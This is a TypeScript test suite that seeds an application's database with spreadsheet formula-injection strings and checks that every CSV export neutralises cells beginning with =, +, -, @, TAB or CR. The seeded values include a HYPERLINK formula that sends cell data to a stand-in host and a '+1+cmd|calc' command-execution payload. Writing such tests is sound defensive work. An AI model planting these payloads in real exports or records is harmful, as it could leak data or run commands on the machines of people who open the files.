import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestApp, loginAs, type TestContext } from '../harness.ts'
import { fillPath, operationsOf } from './openapi-operations.ts'
import { buildWorld, pathValues, type World } from './world.ts'

/**
 * Suite: CSV formula injection (issue 8). Formula-like text is planted where exports show it
 * (user names, a participant's name, a certificate subject, audit labels); then every operation
 * of the OpenAPI document that offers `text/csv` is exported by the operator and every cell is
 * checked: none may start with `=`, `+`, `-`, `@`, TAB or CR (a spreadsheet would run it).
 */
const FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'

let t: TestContext
let world: World
beforeAll(async () => {
  t = await createTestApp()
  world = await buildWorld(t)
  const prisma = t.database.prisma
  await prisma.user.update({ where: { id: world.own.userId }, data: { name: FORMULA } })
  await prisma.user.update({ where: { id: world.other.userId }, data: { name: '+1+cmd|calc' } })
  await prisma.participant.update({
    where: { id: world.other.participantId },
    data: { name: '@SUM(1+1)' },
  })
  await prisma.clientCertificate.update({
    where: { id: world.own.certificateId },
    data: { subject: '-2+3' },
  })
  // An audit entry whose labels carry the planted name.
  await loginAs(t.app, 'P00001', 'admin01')
}, 120_000)
afterAll(async () => {
  await t.close()
})

/** RFC 4180 cells of a CSV text. */
function cells(text: string): string[] {
  const out: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',' || ch === '\n') {
      out.push(cell.replace(/\r$/, ''))
      cell = ''
    } else cell += ch
  }
  if (cell) out.push(cell)
  return out
}

describe('suite: CSV exports neutralise formulas', () => {
  it('starts no cell of any CSV operation with = + - @ TAB or CR', async () => {
    const operator = world.callers.operator
    const csvOperations = operationsOf(t.app).filter((op) =>
      Object.values(op.responses).some((types) => types.includes('text/csv')),
    )
    expect(csvOperations.length).toBeGreaterThan(0)
    const report: string[] = []
    // Lists of one resource and period (B60 days and slots, B80 offers) need their query.
    const resource = await t.database.prisma.resource.findUniqueOrThrow({
      where: { code: world.own.resourceCode },
    })
    const required: Record<string, string> = {
      resourceId: resource.id,
      month: '2030-05',
      date: '2030-05-01',
    }
    // C10's slots CSV is of one dispatch order.
    const order = await t.database.prisma.dispatchOrder.create({
      data: {
        orderId: 'CSV-SUITE-1',
        resourceId: resource.id,
        orderedAt: new Date('2030-05-01T00:00:00Z'),
        startAt: new Date('2030-05-01T08:00:00Z'),
        instructedKw: 1_000,
        baselineKw: [3_000, 3_000],
        actualKw: [2_500, 1_800],
      },
    })
    for (const op of csvOperations) {
      const values = pathValues(op.path, world.own, operator, world, 'own')
      if (op.path.startsWith('/api/v1/delivery-data/dispatch-orders/')) values.id = order.id
      const url = fillPath(op.path, values)
      const query = Object.entries(op.queryParams)
        .filter(([name, p]) => p.required && name in required)
        .map(([name]) => `&${name}=${encodeURIComponent(required[name] as string)}`)
        .join('')
      const res = await t.app.inject({
        url: `${url}?format=csv&encoding=utf-8&pageSize=500${query}`,
        headers: operator.headers,
      })
      expect(res.statusCode, op.operationId).toBe(200)
      expect(res.headers['content-type'], op.operationId).toContain('text/csv')
      const all = cells(res.rawPayload.toString('utf8').replace(/^\uFEFF/, ''))
      const dangerous = all.filter((c) => /^[=+\-@\t\r]/.test(c))
      const neutralised = all.filter((c) => /^'[=+\-@\t\r]/.test(c)).length
      report.push(`${op.operationId}: ${all.length} cells, ${neutralised} neutralised`)
      expect(dangerous, op.operationId).toEqual([])
    }
    console.log(`[suite csv] ${csvOperations.length} CSV operations — ${report.join('; ')}`)
  }, 120_000)
})
